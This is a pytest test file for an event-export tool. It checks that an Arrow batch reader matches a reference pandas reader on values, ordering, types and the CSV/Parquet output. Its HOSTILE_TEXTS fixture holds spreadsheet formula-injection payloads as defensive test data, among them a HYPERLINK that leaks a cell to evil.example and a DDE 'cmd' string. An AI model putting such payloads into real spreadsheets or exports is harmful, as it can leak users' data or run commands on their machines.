"""The Arrow reader gives exactly the reference rows: same values, order, types and files."""

from __future__ import annotations

import itertools
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pytest
import sqlalchemy as sa
from sqlalchemy.engine import Engine

from models import analytics, event_batches
from models.analytics import EventFilters
from models.database import create_db_engine, write_transaction
from models.event_batches import EXPORT_SCHEMA, can_read, iter_event_batches
from models.export import ExportError, export_events
from models.store import store_events
from models.tables import AGENT_TABLE
from models.vocabulary import EventType
from models.wire import Event
from tests.factories import agent_row, wire_event

NOW = datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=5)
# Text an agent may send: formula starts, CSV metacharacters, line breaks, quotes,
# non-ASCII and characters JSON escapes.
HOSTILE_TEXTS = (
    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    'comma, and "quotes"',
    "line\nbreak",
    "carriage\rreturn",
    "crlf\r\nend",
    "  leading and trailing spaces  ",
    "back\\slash and 'single' quotes",
    "ünïcödé ✓ 漢字 🚀",
    "semi;colon|pipe#hash",
    "x" * 5000,
)
EVENT_TYPES = tuple(EventType)


@pytest.fixture(autouse=True)
def _no_cached_engines() -> Iterator[None]:
    yield
    analytics.dispose_cached_engines()


@pytest.fixture(scope="module")
def hostile_engine(module_engine: Engine) -> Engine:
    """Agents with hostile names and events with every kind of awkward value."""
    offsets = (
        UTC,
        timezone(timedelta(hours=5, minutes=30)),
        timezone(-timedelta(hours=8)),
    )
    number = 0
    with write_transaction(module_engine) as connection:
        for index, hostname in enumerate(("=evil-host", "plain-host", 'q"uote,host')):
            agent = agent_row(hostname=hostname, agent_version=f"0.{index}.0")
            connection.execute(sa.insert(AGENT_TABLE), [agent])
            events = []
            for text in (*HOSTILE_TEXTS, None):
                event_type = EVENT_TYPES[number % len(EVENT_TYPES)]
                moment = NOW - timedelta(minutes=number, microseconds=number * 7919)
                overrides: dict[str, Any] = {
                    "timestamp": moment.astimezone(offsets[number % 3]).isoformat(),
                    "system_info": {"note": text, "nested": {"list": [1, 2.5, None, True]}},
                    "details": {"text": text, "errno": number} if text else {},
                }
                failed = event_type.value.endswith(("failed", "partial"))
                if failed:
                    overrides["error_message"] = text or "plain failure"
                if event_type.value.startswith("update"):
                    overrides["migration_from"] = None
                    overrides["migration_to"] = None
                else:
                    overrides["migration_from"] = text if text is None else text[:255]
                events.append(Event.model_validate(wire_event(event_type, **overrides)))
                number += 1
            store_events(connection, agent_id=agent["id"], events=events, received_at=NOW)
    return module_engine


def _fast_frame(engine: Engine, **kwargs: Any) -> pd.DataFrame:
    batches = list(iter_event_batches(engine, **kwargs))
    if not batches:
        # Arrow has no categories to give an empty frame; the export files are the same.
        return analytics.empty_events_frame(json_as="text")
    return pa.Table.from_batches(batches, schema=EXPORT_SCHEMA).to_pandas()


def _reference_frame(engine: Engine, **kwargs: Any) -> pd.DataFrame:
    return analytics.events_frame(
        engine, filters=kwargs["filters"], limit=kwargs.get("limit"), json_as="text"
    )


FILTER_CASES = {
    "everything": EventFilters(),
    "one host, by text with a quote": EventFilters(host='q"uote'),
    "failures": EventFilters(statuses=("failed",)),
    "migration from a hostile text": EventFilters(migration_from="*cmd|*"),
    "error text with LIKE metacharacters": EventFilters(error_text="50%_off"),
    "time window": EventFilters(
        since=NOW - timedelta(minutes=20), until=NOW - timedelta(minutes=3)
    ),
    "agent version pattern": EventFilters(agent_version="0.1.*", category="migration"),
}


@pytest.mark.parametrize("case", FILTER_CASES)
def test_arrow_reader_gives_the_reference_frame(hostile_engine: Engine, case: str) -> None:
    filters = FILTER_CASES[case]

    fast = _fast_frame(hostile_engine, filters=filters, batch_rows=7)

    reference = _reference_frame(hostile_engine, filters=filters)
    pd.testing.assert_frame_equal(fast, reference)


def test_arrow_reader_keeps_nulls_microseconds_and_utc(hostile_engine: Engine) -> None:
    fast = _fast_frame(hostile_engine, filters=EventFilters(), batch_rows=1000)

    assert fast["error_message"].isna().any()
    assert fast["phase"].isna().any()
    assert fast["migration_to"].isna().any()
    assert (fast["occurred_at"].dt.microsecond != 0).any()
    assert str(fast["occurred_at"].dtype) == "datetime64[us, UTC]"
    assert len(set(HOSTILE_TEXTS) & set(fast["error_message"].dropna())) > 3


def test_arrow_reader_honours_the_limit_and_newest_first_order(hostile_engine: Engine) -> None:
    fast = _fast_frame(hostile_engine, filters=EventFilters(), limit=10, batch_rows=3)

    reference = _reference_frame(hostile_engine, filters=EventFilters(), limit=10)
    pd.testing.assert_frame_equal(fast, reference)
    assert fast["occurred_at"].is_monotonic_decreasing


def test_a_column_null_in_the_first_batch_and_text_later_is_read(engine: Engine) -> None:
    # SQLite's driver guesses a column's type from its first batch: the newest events
    # here have no error message, no fingerprint, no phase and no migration path.
    agent = agent_row()
    older = [
        wire_event(
            EventType.MIGRATION_EXECUTION_FAILED,
            timestamp=(NOW - timedelta(hours=2, seconds=n)).isoformat(),
        )
        for n in range(3)
    ]
    newer = [
        wire_event(
            EventType.UPDATE_INSTALLED,
            timestamp=(NOW - timedelta(seconds=n)).isoformat(),
            migration_from=None,
            migration_to=None,
        )
        for n in range(5)
    ]
    with write_transaction(engine) as connection:
        connection.execute(sa.insert(AGENT_TABLE), [agent])
        store_events(
            connection,
            agent_id=agent["id"],
            events=[Event.model_validate(e) for e in older + newer],
            received_at=NOW,
        )

    fast = _fast_frame(engine, filters=EventFilters(), batch_rows=5)

    pd.testing.assert_frame_equal(fast, _reference_frame(engine, filters=EventFilters()))
    assert fast["error_message"].notna().sum() == 3


def test_values_outside_the_vocabulary_and_odd_time_text_read_as_the_reference(
    engine: Engine,
) -> None:
    agent = agent_row()
    with write_transaction(engine) as connection:
        connection.execute(sa.insert(AGENT_TABLE), [agent])
        store_events(
            connection,
            agent_id=agent["id"],
            events=[Event.model_validate(wire_event()) for _ in range(3)],
            received_at=NOW,
        )
        # A newer server's vocabulary, written around the ORM's validation.
        connection.execute(
            sa.text("UPDATE update_events SET status = 'paused', event_type = 'future_kind'")
        )
        if engine.dialect.name == "sqlite":
            # Time text another tool might write: ISO 8601 with a T and a Z.
            connection.execute(
                sa.text(
                    "UPDATE update_events SET received_at = '2026-11-27T08:00:00.5Z' "
                    "WHERE id = (SELECT min(id) FROM update_events)"
                )
            )

    fast = _fast_frame(engine, filters=EventFilters(), batch_rows=10)

    pd.testing.assert_frame_equal(fast, _reference_frame(engine, filters=EventFilters()))
    assert fast["status"].isna().all()


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_both_readers_write_the_same_file_contents(
    hostile_engine: Engine, tmp_path: Path, fmt: str
) -> None:
    outputs = {}
    for reader in ("arrow", "frames"):
        out = tmp_path / f"{reader}.{fmt}"
        manifest = export_events(
            hostile_engine,
            fmt=fmt,  # type: ignore[arg-type]
            out=out,
            reader=reader,  # type: ignore[arg-type]
            chunk_size=11,
            progress=False,
        )
        outputs[reader] = (out, manifest)

    (arrow_out, arrow_manifest), (frames_out, frames_manifest) = outputs["arrow"], outputs["frames"]
    assert arrow_manifest["rows"] == frames_manifest["rows"] > 0
    assert arrow_manifest["columns"] == frames_manifest["columns"]
    if fmt == "csv":
        # Byte for byte: the same quoting, escaping, time format and line ends.
        assert arrow_out.read_bytes() == frames_out.read_bytes()
    else:
        pd.testing.assert_frame_equal(pd.read_parquet(arrow_out), pd.read_parquet(frames_out))


def test_postgres_statements_carry_no_parameters_so_rows_stream(
    hostile_engine: Engine,
) -> None:
    # libpq holds a parameterised query's whole result in memory; a statement without
    # parameters is streamed by the driver's COPY. Values are quoted into the SQL.
    if hostile_engine.dialect.name != "postgresql":
        pytest.skip("PostgreSQL only")
    driver = event_batches._Postgres(hostile_engine)
    filters = EventFilters(host="it's", error_text="back\\slash", since=NOW)
    query = event_batches._events_query("postgresql", filters=filters, limit=5)

    sql, params = driver.statement(query)

    assert params is None
    assert "'%it''s%'" in sql
    assert _fast_frame(hostile_engine, filters=filters).empty


def test_slices_cover_the_window_newest_first(hostile_engine: Engine) -> None:
    slices = list(event_batches._time_slices(hostile_engine, filters=EventFilters(), rows=5))

    assert slices[0].upper is None
    assert slices[-1].lower is None
    for newer, older in itertools.pairwise(slices):
        assert newer.lower == older.upper
    total = analytics.count_events(hostile_engine)
    assert len(slices) == total // 5 + 1


def test_only_a_few_slices_are_read_ahead(
    hostile_engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    started: list[Any] = []
    original = event_batches._Session.read

    def recording(self: Any, bounds: Any, **kwargs: Any) -> list[pa.RecordBatch]:
        started.append(bounds)
        return original(self, bounds, **kwargs)

    monkeypatch.setattr(event_batches._Session, "read", recording)
    ahead = []
    for batch in iter_event_batches(
        hostile_engine, filters=EventFilters(), batch_rows=2, workers=2
    ):
        assert batch.num_rows <= 2
        newest = batch.column("occurred_at")[0].as_py()
        current = next(
            number
            for number, bounds in enumerate(started)
            if (bounds.upper is None or newest < bounds.upper)
            and (bounds.lower is None or newest >= bounds.lower)
        )
        ahead.append(len(started) - 1 - current)

    assert len(started) > 5
    # While a slice is handed over, `workers` later ones are being read, no more.
    assert max(ahead) == 2


def test_closing_the_iterator_early_stops_the_reader(hostile_engine: Engine) -> None:
    batches = iter_event_batches(hostile_engine, filters=EventFilters(), batch_rows=1)
    next(batches)

    batches.close()  # type: ignore[attr-defined]

    assert not any(t.name == "export-reader" for t in threading.enumerate())


def test_an_in_memory_sqlite_database_falls_back_to_the_frames_reader(tmp_path: Path) -> None:
    from models.schema import upgrade_database

    engine = create_db_engine("sqlite://")
    upgrade_database(engine)
    assert not can_read(engine)

    manifest = export_events(engine, fmt="csv", out=tmp_path / "e.csv", progress=False)

    assert manifest["rows"] == 0
    with pytest.raises(ExportError, match="arrow reader cannot read"):
        export_events(engine, fmt="csv", out=tmp_path / "e.csv", reader="arrow", progress=False)
    engine.dispose()


def test_events_table_columns_are_read_in_export_order() -> None:
    assert EXPORT_SCHEMA.names == list(analytics.EVENT_COLUMNS)
